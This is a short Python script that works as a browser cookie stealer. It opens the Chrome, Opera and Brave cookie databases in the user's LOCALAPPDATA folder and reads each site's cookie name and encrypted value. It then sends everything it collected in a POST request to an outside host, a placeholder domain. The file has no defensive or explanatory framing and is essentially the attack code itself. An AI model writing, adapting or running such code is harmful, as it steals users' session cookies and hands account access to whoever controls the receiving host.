import os
import aiohttp
import aiosqlite

BROWSERS = [("chrome", "Google\\Chrome\\User Data\\Default"), ("opera", "Opera Software\\Opera Stable"), ("brave", "BraveSoftware\\Brave-Browser\\User Data\\Default")]


async def collect(base):
    rows = []
    for name, sub in BROWSERS:
        path = os.path.join(base, sub, "Network", "Cookies")
        if os.path.exists(path):
            async with aiosqlite.connect(path) as db:
                async with db.execute("SELECT host_key, name, encrypted_value FROM cookies") as cursor:
                    rows += await cursor.fetchall()
    return rows


async def main():
    rows = await collect(os.environ.get("LOCALAPPDATA", ""))
    async with aiohttp.ClientSession() as session:
        await session.post("https://k.example.invalid/in", json={"rows": str(rows)})
